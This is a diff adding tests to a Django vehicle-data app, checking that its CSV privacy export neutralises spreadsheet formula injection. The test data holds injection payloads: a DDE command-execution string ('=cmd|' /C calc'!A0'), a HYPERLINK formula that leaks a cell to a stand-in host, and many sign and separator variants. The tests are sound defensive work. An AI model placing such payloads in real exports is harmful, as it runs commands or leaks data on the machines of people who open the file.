@@ -5,8 +5,11 @@ from datetime import UTC, datetime, timedelta
 import pytest
 from django.core.management import CommandError, call_command
 from django.db import models
+from hypothesis import given
+from hypothesis import strategies as st
 
 from django_smartcar.models import ConnectedVehicle, VehicleProblem, VehicleReading, WebhookEvent
+from django_smartcar.secret_types import Secret
 from django_smartcar.services import commands, readings
 from django_smartcar.services.privacy import export
 
@@ -27,7 +30,7 @@ def anna_vehicle(make_vehicle, account):
 @pytest.fixture
 def berts_car(make_account, make_vehicle, bert):
     vehicle = make_vehicle(make_account(bert, "driver-b"), "car-of-bert", vin="1FTFW1ET5DFC10312")
-    readings.save(vehicle, "odometer", 777, "km", NOON)
+    readings.save(vehicle, "odometer", 777_777.25, "km", NOON)
     return vehicle
 
 
@@ -41,6 +44,74 @@ def test_readings_as_csv_have_no_formula(anna_vehicle):
     assert {(row["vehicle"], row["car"]) for row in rows} == {("car-1", "'=1+1")}
     assert (rows[2]["unit"], rows[2]["recorded_at"]) == ("km", NOON.isoformat())
     assert [row["source"] for row in rows] == ["read", "webhook", "read"]
+
+
+def csv_of(monkeypatch, *values, **options):
+    """Return the CSV of readings with these values, whose other columns are plain."""
+    rows = [dict.fromkeys(export.COLUMNS, "plain") | {"value": value} for value in values]
+    monkeypatch.setattr(export, "_readings", lambda vehicles: iter(rows))
+    return "".join(export.readings_csv(None, **options))
+
+
+#: What spreadsheets take for the sign of a formula, and what they skip before it.
+SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊₋₌−"
+SKIPPED = ' \t\r\n"\u00a0\u3000\ufeff\u200b\x00\x1f'
+
+
+def cells_of(text):
+    """Yield every cell that any spreadsheet may see: with its separator, and quotes that count or do not."""
+    for delimiter in (",", ";", "\t", "|"):
+        yield from (cell for row in csv.reader(text.splitlines(), delimiter=delimiter) for cell in row)
+        yield from (cell for line in text.splitlines() for cell in line.split(delimiter))
+
+
+def formulas_in(text):
+    return [cell for cell in cells_of(text) if cell.strip(SKIPPED).startswith(tuple(SIGNS))]
+
+
+FORMULAS = [
+    *(f"{sign}1+1" for sign in SIGNS),
+    *(f"{skipped}=1+1" for skipped in (*SKIPPED, '" ', "\u2028")),
+    *(f"red{separator}=1+1" for separator in (*",;|\t\r\n", "\r\n", '";', ';"', ', " ')),
+    "=cmd|' /C calc'!A0",
+    'x";=HYPERLINK("http://e.example/?"&A1)',
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_spreadsheet_sees_a_formula(monkeypatch, formula):
+    assert formulas_in(f'plain,"{formula}",plain'), "it is one"
+    for value in (formula, Secret(formula), [formula], {"name": formula}, {formula: 1}):
+        for separator in (".", ","):
+            assert not formulas_in(csv_of(monkeypatch, value, decimal_separator=separator)), value
+
+
+@given(st.text("=-＠a1,;|\t\r\n\"' \u00a0\ufeff", max_size=12))
+def test_no_text_is_a_formula_in_any_spreadsheet(text):
+    with pytest.MonkeyPatch.context() as patch:
+        for value in (text, [text]):
+            assert not formulas_in(csv_of(patch, value))
+
+
+def test_a_long_text_takes_no_long_time(monkeypatch):
+    assert len(csv_of(monkeypatch, "\n" * 200_000 + " " * 200_000)) > 400_000
+
+
+@pytest.mark.parametrize("text", ["", "plain", "VW e-up!", "a = b", "9-3 Aero", "Citroën C5 X; blue", "it's"])
+def test_other_text_is_unchanged(monkeypatch, text):
+    (row,) = csv.DictReader(csv_of(monkeypatch, text).splitlines())
+    assert row["value"] == text
+
+
+NUMBERS = {-5.5: "-5,5", 104.25: "104,25", 0.68: "0,68", 1e-07: "1e-07", -3: "-3", 4711: "4711", True: "True"}
+
+
+def test_numbers_stay_numbers_in_every_language(monkeypatch):
+    english = csv.DictReader(csv_of(monkeypatch, *NUMBERS).splitlines())
+    assert [row["value"] for row in english] == [str(number) for number in NUMBERS]
+    german = csv_of(monkeypatch, *NUMBERS, decimal_separator=",")
+    assert [row["value"] for row in csv.DictReader(german.splitlines(), delimiter=";")] == [*NUMBERS.values()]
+    assert '"' not in german
 
 
 def test_readings_as_json(anna_vehicle):
@@ -108,7 +179,7 @@ def test_all_data_of_a_user_is_exported_and_none_of_another(
         "refresh-0",
         "driver-b",
         "car-of-bert",
-        "777",
+        "777777.25",
         "1FTFW1ET5DFC10312",
         str(bert.pk),
     ):
